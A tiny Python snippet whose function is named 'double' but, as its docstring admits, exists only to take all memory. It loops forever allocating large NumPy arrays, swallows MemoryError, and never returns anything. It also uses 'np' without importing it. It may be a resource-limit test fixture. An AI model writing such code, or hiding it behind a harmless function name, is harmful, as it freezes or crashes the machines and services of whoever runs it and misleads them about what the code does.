"""Takes all memory."""
def double(x):
    hoard = []
    while True:
        try: hoard.append(np.ones(2**22))
        except MemoryError: pass
